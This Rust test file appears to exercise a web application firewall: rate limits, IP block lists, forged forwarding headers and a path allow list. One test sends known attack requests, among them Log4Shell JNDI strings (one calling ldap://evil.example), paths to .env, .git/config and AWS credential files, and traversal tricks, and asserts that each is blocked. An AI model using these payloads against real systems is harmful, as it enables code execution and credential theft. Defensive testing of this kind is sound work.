use std::net::IpAddr;
use std::time::Duration;

use axum::http::Method;
use serde_json::json;

use crate::support::{World, changed};

const WINDOW: Duration = Duration::from_secs(300);

/// Each limit of the template: how often, and at what.
fn limits() -> [(usize, Method, &'static str); 4] {
    [
        (50, Method::POST, "/api/v1/sessions"),
        (20, Method::POST, "/api/v1/accounts"),
        (100, Method::POST, "/api/v1/documents"),
        (2_000, Method::GET, "/api/v1/health"),
    ]
}

#[tokio::test]
async fn each_rate_limit_trips_recovers_and_holds_for_one_address_alone() {
    let world = World::start().await;
    for (limit, method, target) in limits() {
        for n in 0..limit {
            let answer = world.ask(method.clone(), target).send().await;
            assert_eq!(answer.status, 200, "{target}, request {n}");
        }
        let over = world.ask(method.clone(), target).send().await;
        assert_eq!((over.status, over.header("retry-after")), (429, "300"), "{target}");
        assert!(over.text().contains("\"code\": \"too_many_requests\""), "{}", over.text());
        let reached = world.api.count();
        for _ in 0..100 {
            assert_eq!(world.ask(method.clone(), target).send().await.status, 429);
        }
        assert_eq!(world.api.count(), reached, "what is over the limit reaches no server");
        let neighbour = world.ask(method.clone(), target).from([203, 0, 113, 8]).send().await;
        assert_eq!(neighbour.status, 200, "{target}");
        world.clock.turn_forward(WINDOW);
        assert_eq!(world.ask(method.clone(), target).send().await.status, 200, "{target} recovers");
        world.clock.turn_forward(WINDOW);
    }
}

#[tokio::test]
async fn a_forged_x_forwarded_for_neither_hides_a_caller_nor_harms_another() {
    let world = World::start().await;
    let mut refused = 0;
    for n in 0..60 {
        let forged = format!("198.51.100.{n}, 10.0.0.{n}");
        let answer =
            world.ask(Method::POST, "/api/v1/sessions").header("x-forwarded-for", &forged).send().await;
        refused += usize::from(answer.status == 429);
    }
    assert_eq!(refused, 10);
    // Those whose addresses were forged are not limited, and somebody on a list gains nothing by another's.
    assert_eq!(world.ask(Method::POST, "/api/v1/sessions").from([198, 51, 100, 1]).send().await.status, 200);
    let listed = world.get("/api/v1/health").from([198, 18, 0, 1]).header("x-forwarded-for", "203.0.113.7");
    assert_eq!(listed.send().await.status, 403);
}

#[tokio::test]
async fn addresses_on_our_list_and_on_awss_list_get_nothing_not_even_a_page() {
    let stacks = changed("BlockedIpv6Set", "/Addresses", json!(["2001:db8:bad::/48"]));
    let mut stacks_with_both = stacks;
    let edge = stacks_with_both.iter_mut().find(|stack| stack.name == "edge").unwrap();
    edge.resources.get_mut("BlockedIpv4Set").unwrap().properties["Addresses"] = json!(["198.51.100.0/24"]);
    let world = World::with(&stacks_with_both, None).await;
    for address in ["198.51.100.77", "2001:db8:bad::1", "198.18.0.1", "2001:2::1"] {
        let address: IpAddr = address.parse().unwrap();
        for target in ["/", "/api/v1/health", "/pkg/a.js"] {
            let answer = world.get(target).from(address).send().await;
            assert_eq!((answer.status, answer.cache()), (403, "Error"), "{target} for {address}");
        }
    }
    assert_eq!((world.api.count(), world.renderer.count(), world.bucket.asked().len()), (0, 0, 0));
    assert_eq!(world.get("/api/v1/health").from([198, 51, 101, 1]).send().await.status, 200);
}

#[tokio::test]
async fn requests_that_are_known_attacks_are_stopped_wherever_they_go() {
    let world = World::start().await;
    for target in [
        "/.git/config",
        "/.env",
        "/a/%2e%2e/.aws/credentials",
        "/WEB-INF/web.xml",
        "/?a=$%7Bjndi:ldap://x%7D",
    ] {
        assert_eq!(world.get(target).send().await.status, 403, "{target}");
    }
    let header = world.get("/").header("user-agent", "${jndi:ldap://evil.example/a}").send().await;
    assert_eq!(header.status, 403);
    assert_eq!(world.renderer.count(), 0);
}

#[tokio::test]
async fn a_path_that_becomes_the_apis_only_in_its_normal_form_is_no_way_around_the_allow_list() {
    let world = World::start().await;
    for target in [
        "//api/v1/internal",
        "/./api/v1/internal",
        "/pkg/../api/v1/internal",
        "/x/%2e%2E/api/v1/internal",
        "/%61pi/v1/internal",
        "/a%70i//v1/health",
        "/../api/v1/health",
    ] {
        assert_eq!(world.get(target).send().await.status, 404, "{target}");
    }
    assert_eq!(world.api.count(), 0);
}

#[tokio::test]
async fn what_each_rule_has_matched_is_counted() {
    let world = World::start().await;
    world.get("/api/v1/nothing").send().await;
    world.get("/").from([198, 18, 0, 1]).send().await;
    let matched = world.edge.web_acl.matched();
    let of = |name: &str| matched.iter().find(|(rule, _)| *rule == name).unwrap().1;
    assert_eq!((of("supported-endpoints"), of("ip-reputation"), of("rate-of-api")), (1, 1, 0));
}

#[tokio::test]
async fn a_rule_that_only_counts_lets_the_request_go_on() {
    let world = World::with(&changed("WebAcl", "/Rules/3/Action", json!({ "Count": {} })), None).await;
    assert_eq!(world.get("/api/v1/nothing").send().await.status, 200);
    assert_eq!(world.edge.web_acl.matched()[3], ("supported-endpoints", 1));
    let group = changed("WebAcl", "/Rules/1/OverrideAction", json!({ "Count": {} }));
    let world = World::with(&group, None).await;
    assert_eq!(world.get("/").from([198, 18, 0, 1]).send().await.status, 200);
    assert_eq!(world.edge.web_acl.matched()[1].1, 1);
}

#[tokio::test]
async fn an_address_in_a_header_counts_only_where_the_template_says_so() {
    let forwarded = |fallback: &str| json!({ "HeaderName": "X-Forwarded-For", "FallbackBehavior": fallback });
    let rate = |fallback: &str| {
        changed(
            "WebAcl",
            "/Rules/4/Statement/RateBasedStatement",
            json!({
                "AggregateKeyType": "FORWARDED_IP", "EvaluationWindowSec": 60, "Limit": 10,
                "ForwardedIPConfig": forwarded(fallback),
            }),
        )
    };
    let world = World::with(&rate("NO_MATCH"), None).await;
    let mut statuses = Vec::new();
    for (n, forwarded) in ["192.0.2.1", "192.0.2.2"].into_iter().cycle().take(21).enumerate() {
        let answer = world.get("/api/v1/health").header("x-forwarded-for", forwarded).send().await;
        statuses.push((n, answer.status));
    }
    assert_eq!(statuses.iter().filter(|(_, status)| *status == 429).collect::<Vec<_>>(), [&(20, 429)]);
    for _ in 0..20 {
        assert_eq!(world.get("/api/v1/health").header("x-forwarded-for", "nobody").send().await.status, 200);
        assert_eq!(
            world.get("/api/v1/health").send().await.status,
            200,
            "without the header it does not apply"
        );
    }
    let world = World::with(&rate("MATCH"), None).await;
    assert_eq!(world.get("/api/v1/health").header("x-forwarded-for", "nobody").send().await.status, 429);
}
